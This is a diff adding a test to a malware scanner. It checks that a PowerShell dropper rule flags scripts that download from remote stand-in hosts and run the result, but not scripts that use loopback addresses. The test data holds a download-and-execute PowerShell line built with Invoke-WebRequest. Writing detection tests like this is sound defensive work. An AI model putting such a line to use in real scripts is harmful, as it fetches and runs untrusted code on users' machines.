@@ -90,3 +90,16 @@ def test_renamed_socgholish_script_is_still_caught(scanner: Scanner, tmp_path: P
     for name in ("Chrome.Update.js", "update.js", "a.txt"):
         report = scanner.scan_bytes(data, name)
         assert report.verdict.value == "malicious", name
+
+
+@pytest.mark.parametrize(("source", "flagged"), [
+    ("http://127.0.0.1:8080/s.ps1", False), ("http://localhost/s.ps1", False), ("http://0.0.0.0:80/s", False),
+    ("http://203.0.113.60/s.ps1", True), ("http://update-check.example/s.ps1", True),
+    ("http://login.example/s.ps1", True), ("http://12.34.56.78/s", True),
+])
+def test_a_source_on_this_machine_is_not_a_download(scanner: Scanner, source: str, flagged: bool) -> None:
+    """Without a size guard (padding walked past it), long real test scripts reached the dropper
+    rule through their http://127.0.0.1 proxies; a loopback source is a test's, a remote one a dropper's."""
+    script = f"# build helper\n$u = '{source}'\nInvoke-WebRequest -Uri $u -OutFile x.ps1\n& $u\n" + "# -\n" * 3000
+    ids = {f.id for f in scanner.scan_bytes(script.encode(), "helper.ps1").findings}
+    assert ("SCAM_Dropper_PS_Download_Execute_Stealth" in ids) is flagged, ids
